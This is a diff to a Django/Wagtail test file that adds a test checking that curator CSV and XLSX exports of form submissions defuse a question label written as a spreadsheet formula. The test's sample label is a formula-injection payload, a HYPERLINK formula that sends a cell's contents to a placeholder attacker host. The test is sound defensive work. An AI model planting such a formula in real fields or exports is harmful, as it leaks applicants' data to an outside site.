@@ -1,5 +1,9 @@
 """Who may read what people sent: curators and superusers, nobody else."""
 
+import csv
+import io
+
+import openpyxl
 import pytest
 from django.contrib.auth.models import Group
 from django.core.files.base import ContentFile
@@ -204,6 +208,26 @@ def test_the_applications_csv_opens_in_russian_excel_and_runs_no_formula(applica
     assert content.startswith("\ufeff")
     assert "'=HYPERLINK" in content
     assert ",=HYPERLINK" not in content
+
+
+def test_a_question_written_as_a_formula_runs_in_no_export(application, submission, log_in):
+    # An editor, who may not read applications, words a question so that the column's
+    # heading would send a curator's spreadsheet of them to another site.
+    label = '=HYPERLINK("http://evil.example/?"&B2,"Открыть")'
+    ApplicationFormFieldFactory(page=application, label=label)
+    url = reverse("wagtailforms:list_submissions", args=[application.pk])
+    client = log_in(CURATOR)
+
+    csv_response = client.get(url, {"export": "csv"})
+    xlsx_response = client.get(url, {"export": "xlsx"})
+
+    csv_header = next(csv.reader(io.StringIO(b"".join(csv_response.streaming_content).decode())))
+    assert "'" + label in csv_header
+    assert label not in csv_header
+    xlsx = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content)))
+    headings = list(xlsx.active.iter_rows(max_row=1))[0]
+    assert "'" + label in [cell.value for cell in headings]
+    assert [cell.value for cell in headings if cell.data_type == "f"] == []
 
 
 def test_deleting_an_application_is_logged(application, submission, log_in):
